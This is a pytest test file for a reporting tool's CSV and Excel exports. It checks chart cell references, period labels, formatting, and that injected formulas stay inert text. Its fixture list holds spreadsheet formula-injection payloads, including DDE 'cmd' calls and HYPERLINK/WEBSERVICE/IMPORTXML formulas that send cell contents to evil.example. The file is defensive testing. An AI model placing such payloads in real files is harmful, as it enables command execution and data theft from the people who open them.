"""Workbooks: charts that refer to their cells, no formulas, and a program that opens them."""

import shutil
import subprocess
import zipfile
from datetime import date
from pathlib import Path
from xml.sax.saxutils import escape

import pytest

from pscli.models.insights import Unit
from pscli.models.reports import ReportForm
from pscli.reports.forms import report

from .reading import Workbook, csv_rows, shown
from .samples import TYPES, insights, kept

FORMULAS = [
    f"{start}{rest}"
    for start in ("=", "+", "-", "@", "\t=", "\r=")
    for rest in (
        "1+1",
        "cmd|' /C calc'!A0",
        "SUM(1+1)*cmd|' /C calc'!A0",
        'HYPERLINK("https://evil.example/?x="&A1,"click")',
        'IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
        'WEBSERVICE("https://evil.example/"&A1)',
        'DDE("cmd";"/C calc";"x")',
        "{1;2}",
        "2+5+cmd|'\n'!A0",
        "",
    )
]  # fmt: skip


def book(**fields: object) -> Workbook:
    """The workbook of a sample."""
    return Workbook(report(insights(**fields), ReportForm.XLSX))  # type: ignore[arg-type]


def test_sixty_formulas_stay_text() -> None:
    """I5: what a person named like a formula is shown, never run: in CSV and in workbooks."""
    assert len(set(FORMULAS)) == 60
    for formula in FORMULAS:
        found = insights(team=formula, kinds=(formula, "sync"))
        rows = csv_rows(report(found, ReportForm.CSV))
        assert {row["team"] for row in rows} == {f"'{formula}"}
        assert f"'{formula}" in {row["issue_type"] for row in rows}
        read = Workbook(report(found, ReportForm.XLSX))
        assert not read.formulas
        texts = {cell for rows in read.sheets.values() for row in rows for cell in row}
        assert f"'{formula}" in texts
        assert formula not in texts or not formula
        assert not [
            text for text in texts if isinstance(text, str) and text and text != shown(text)
        ]


@pytest.mark.parametrize("by", Unit)
def test_the_trend_chart_refers_to_its_cells(by: Unit) -> None:
    """I1: names, units and counts are those of the sheet, and are kept with the chart."""
    read = book(by=by, days=(date(2026, 2, 3), date(2026, 5, 20)))
    trend, types, *_ = read.charts()
    rows = read.sheets["Trend"]
    names = [each["tx"][1] for each in trend.series]
    assert names == [[kind] for kind in rows[0][5:]]
    assert len(names) == len(TYPES)
    for n, each in enumerate(trend.series, start=5):
        assert each["cat"][0] == f"Trend!$A$2:$A${len(rows)}"
        assert each["cat"][1] == read.cells(each["cat"][0]) == [row[0] for row in rows[1:]]
        values = [row[n] for row in rows[1:]]
        assert [float(value or "") for value in each["val"][1]] == values
        assert read.cells(each["val"][0]) == values
        assert read.cells(each["tx"][0]) == [rows[0][n]]
    columns = [[row[n] for row in read.sheets["Issue types"][1:]] for n in (1, 3)]
    assert [[float(value or "") for value in each["val"][1]] for each in types.series] == columns
    assert [each["tx"][1] for each in types.series] == [["Tickets"], ["Before"]]


def test_the_promises_have_a_chart() -> None:
    """I2: met, breached, running and withdrawn, beside the period before."""
    read = book(kept=kept())
    chart = read.charts()[2]
    assert [each["tx"][1] for each in chart.series] == [
        ["Met"], ["Breached"], ["Running"], ["Withdrawn"]
    ]  # fmt: skip
    assert [[float(value or "") for value in each["val"][1]] for each in chart.series] == [
        [40, 0], [8, 0], [2, 0], [1, 0]
    ]  # fmt: skip


def test_units_that_are_cut_or_not_over_say_so() -> None:
    """I5: in the sheet and hence below the chart."""
    read = book(days=(date(2026, 4, 10), date(2026, 7, 20)))
    assert [row[0] for row in read.sheets["Trend"][1:]] == [
        "Apr 2026 (from 10 Apr)", "May 2026", "Jun 2026 (so far)", "Jul 2026 (to come)"
    ]  # fmt: skip
    read = book(days=(date(2026, 4, 1), date(2026, 5, 20)), by=Unit.WEEK)
    names = [row[0] for row in read.sheets["Trend"][1:]]
    assert names[:2] == ["1 Apr 2026 (from 1 Apr)", "6 Apr 2026"]
    assert names[-1] == "18 May 2026 (to 19 May)"


def test_a_workbook_reads_well() -> None:
    """Headers stay in sight, shares and days have their formats, what rises is named."""
    read = book()
    for n in (2, 3, 4, 5):
        sheet = read.zip.read(f"xl/worksheets/sheet{n}.xml").decode()
        assert 'state="frozen"' in sheet
        assert "<cols>" in sheet
    styles = read.zip.read("xl/styles.xml").decode()
    assert 'formatCode="0.0 %"' in styles
    assert 'formatCode="yyyy-mm-dd"' in styles
    assert ["Rises most: sign-in", 47, 3] in read.sheets["Overview"]


def test_an_office_program_opens_it(tmp_path: Path) -> None:
    """LibreOffice reads it, draws its three charts, and calculates nothing in it."""
    office = shutil.which("soffice")
    if office is None:
        pytest.skip("LibreOffice is not installed: no office program opened the workbook")
    team = "=cmd|' /C calc'!A0 株式会社"
    (tmp_path / "r.xlsx").write_bytes(report(insights(team=team, kept=kept()), ReportForm.XLSX))
    profile = f"-env:UserInstallation=file://{tmp_path}/profile"
    done = subprocess.run(
        [office, profile, "--headless", "--convert-to", "ods", "--outdir", ".", "r.xlsx"],
        cwd=tmp_path,
        capture_output=True,
        check=False,
        timeout=120,
    )
    assert (tmp_path / "r.ods").exists(), done.stderr
    with zipfile.ZipFile(tmp_path / "r.ods") as opened:
        content = opened.read("content.xml").decode()
        drawn = [name for name in opened.namelist() if name.endswith("/content.xml")]
        charts = [opened.read(name).decode() for name in drawn]
    assert sum("chart:series" in chart for chart in charts) == 3
    assert "table:formula" not in content
    assert f">{escape(shown(team), {chr(39): '&apos;'})}<" in content
